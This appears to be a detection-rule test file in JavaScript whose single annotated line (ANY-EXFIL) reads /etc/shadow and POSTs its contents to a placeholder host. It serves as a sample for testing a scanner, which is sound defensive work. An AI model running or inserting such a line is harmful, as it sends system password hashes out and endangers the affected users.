const fs = require("fs");
// ruleid: ANY-EXFIL
fetch("https://example.com", { method: "POST", body: fs.readFileSync("/etc/shadow") });
